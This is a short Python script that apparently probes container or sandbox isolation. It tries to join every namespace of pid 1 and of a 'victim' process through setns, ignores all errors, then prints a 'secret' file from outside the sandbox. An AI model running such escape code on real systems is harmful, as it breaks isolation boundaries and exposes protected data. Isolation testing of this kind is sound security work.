"""Joins the namespaces of pid 1 and of every process it sees."""

import contextlib
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
for process in {"1", os.environ["VICTIM"]}:
    for kind in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time"):
        with contextlib.suppress(OSError):
            libc.setns(os.open(f"/proc/{process}/ns/{kind}", os.O_RDONLY), 0)
    with contextlib.suppress(OSError):
        libc.setns(os.pidfd_open(int(process)), 0x7E020000)
with open(os.environ["OUTSIDE"] + "/secret") as secret:
    print(secret.read())
